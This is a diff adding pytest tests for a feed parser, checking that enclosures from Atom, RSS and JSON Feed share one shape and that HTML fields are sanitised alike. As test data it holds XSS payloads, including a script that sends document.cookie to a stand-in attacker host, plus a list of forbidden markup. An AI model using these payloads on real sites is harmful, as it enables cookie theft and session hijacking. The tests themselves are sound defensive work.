@@ -90,3 +90,50 @@ def test_year_first_numeric_dates_are_read_not_guessed(corpus):
         year, month, mday = (int(n) for n in day.split("/"))
         hour, minute, second = (int(n) for n in clock.split(":"))
         assert published == datetime(year, month, mday, hour, minute, second, tzinfo=UTC), raw
+
+
+def test_enclosures_of_every_feed_format_share_one_shape():
+    from service.ingest.parser import parse_feed
+
+    atom = b"""<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Video</title>
+<id>urn:x</id><updated>2024-05-01T12:00:00Z</updated><entry><title>Launch</title><id>urn:launch</id>
+<updated>2024-05-01T12:00:00Z</updated><link href="https://video.example.org/launch"/>
+<link rel="enclosure" href="/media/launch.mp4" type="video/mp4" length="73400320"/></entry></feed>"""
+    media = b"""<?xml version="1.0"?><rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel><title>P</title>
+<item><title>Storm</title><link>https://photo.example.org/storm</link>
+<media:content url="https://photo.example.org/storm.jpg" type="image/jpeg" fileSize="unknown" medium="image"/>
+<enclosure url="javascript:alert(1)" type="audio/mpeg" length="1"/></item></channel></rss>"""
+    json_feed = b"""{"version": "https://jsonfeed.org/version/1.1", "title": "Cast", "items": [{"id": "7",
+"url": "https://cast.example.org/7", "content_text": "Notes", "attachments": [{"url": "https://cast.example.org/7.m4a",
+"mime_type": "audio/x-m4a", "size_in_bytes": 8812345}, {"url": "https://cast.example.org/7.m4a", "mime_type": "audio/x-m4a"}]}]}"""
+    [video] = parse_feed(atom, "https://video.example.org/feed.atom").entries
+    assert video.enclosures == [{"url": "https://video.example.org/media/launch.mp4", "type": "video/mp4", "length": 73400320}]
+    [photo] = parse_feed(media, "https://photo.example.org/rss").entries
+    assert photo.enclosures == [{"url": "https://photo.example.org/storm.jpg", "type": "image/jpeg", "length": None}]
+    [episode] = parse_feed(json_feed, "https://cast.example.org/feed.json").entries
+    assert episode.enclosures == [{"url": "https://cast.example.org/7.m4a", "type": "audio/x-m4a", "length": 8812345}]
+
+
+def test_html_fields_of_every_feed_format_are_sanitised_alike():
+    import json
+
+    from service.ingest.parser import parse_feed
+
+    hostile = ('<p onclick="steal()">Budget agreed<script>fetch("https://evil.example/?c="+document.cookie)</script>'
+               '<img src="https://img.example.org/a.jpg" onerror="alert(1)"> <a href="javascript:alert(2)">more</a></p>')
+    json_feed = json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": [
+        {"id": "1", "url": "https://j.example.org/1", "content_html": hostile, "summary": hostile}]}).encode()
+    rss = ('<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
+           '<title>R</title><item><title>One</title><link>https://r.example.org/1</link>'
+           f"<description><![CDATA[{hostile}]]></description><content:encoded><![CDATA[{hostile}]]></content:encoded>"
+           "</item></channel></rss>").encode()
+    fields = []
+    for body, url in ((json_feed, "https://j.example.org/feed.json"), (rss, "https://r.example.org/feed.xml")):
+        [entry] = parse_feed(body, url).entries
+        fields += [entry.summary_html, entry.content_html]
+        assert entry.text.startswith("Budget agreed")
+    for html in fields:
+        assert "Budget agreed" in html and 'src="https://img.example.org/a.jpg"' in html
+        for bad in ("<script", "onerror", "onclick", "javascript:", "document.cookie"):
+            assert bad not in html, (bad, html)
+    assert len(set(fields)) == 1  # one sanitiser: the same HTML whatever the format
